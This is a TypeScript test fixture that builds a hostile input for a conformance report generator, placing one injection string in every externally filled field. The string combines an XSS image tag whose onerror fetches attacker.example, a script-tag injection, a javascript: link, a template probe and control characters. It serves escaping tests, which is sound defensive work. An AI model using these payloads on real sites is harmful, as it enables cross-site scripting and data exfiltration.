import type { ReportInput } from '../../src/report/input';
import { bundle, caseVerdict, entry, exampleDefects, ledgerOf, requirement } from './example-input';

/** What an endpoint, a target file or a bundle may hold to get out of the text that it belongs in. */
export const attack = '"\'><img src=x onerror="alert(1);fetch(\'https://attacker.example/\')"></pre></style></title><script>alert(2)</script>{{constructor}}\u001b[31m\u202eevil\u0000';

/** A report in which every field that others fill holds the attack. */
export function hostileInput(): ReportInput {
  const requirements = [requirement('RFC8322-5-1'), requirement('RFC8322-5-2'), requirement('RFC8322-5-3')];
  const { file, target } = entry(attack, {
    facts: {
      organization: attack,
      link: `javascript:alert(3)//${attack}`,
      description: attack,
      coverage: attack,
      versionCompatibility: attack,
      licensing: attack,
      experience: attack,
      contact: attack,
      lineage: attack,
      reportSection: attack,
      version: attack,
    },
    claims: [
      { specification: 'RFC8322', role: 'rolie-server', options: { [attack]: { value: false, because: attack } } },
      { specification: 'RFC8600', role: 'xmpp-grid-broker', 'claimed-only': attack },
    ],
  });
  const finding = { where: attack, expected: attack, actual: attack };
  const verdicts = [
    caseVerdict('RFC8322-5-1/the-fact-holds', { verdict: 'fail', step: attack, findings: [finding], tolerated: [{ ...finding, defect: 'D09' }], exchanges: [1, 2] }),
    caseVerdict('RFC8322-5-2/the-fact-holds', { verdict: 'inconclusive', reason: 'timeout', message: attack, exchanges: [1] }),
    caseVerdict('RFC8322-5-3/the-fact-holds', { tolerated: [{ ...finding, defect: attack }] }),
    caseVerdict(attack),
  ];
  const certificate = { subject: attack, issuer: attack, names: [attack], validFrom: attack, validTo: attack, fingerprint: attack };
  const message = { startLine: attack, headers: [[attack, attack]] as const, body: attack };
  const run = bundle(target, verdicts, [
    {
      purpose: attack,
      peer: attack,
      tls: { version: attack, cipher: attack, serverName: attack, verified: false, verificationError: attack, certificate, clientCertificate: attack },
      sent: message,
      received: message,
      silence: { cause: 'tls', detail: attack, afterMilliseconds: 1 },
    },
    { received: { ...message, body: attack.repeat(200) } },
  ]);
  const { run: record } = run;
  const hostileRun = { ...run, run: { ...record, platform: attack, suite: { version: attack, lock: attack } } };
  const claimedOnly = entry(`claimed ${attack}`, { claimedOnly: attack });
  return { requirements, ledger: ledgerOf(requirements), register: [{ file, target }, claimedOnly], bundles: [hostileRun], defects: exampleDefects };
}
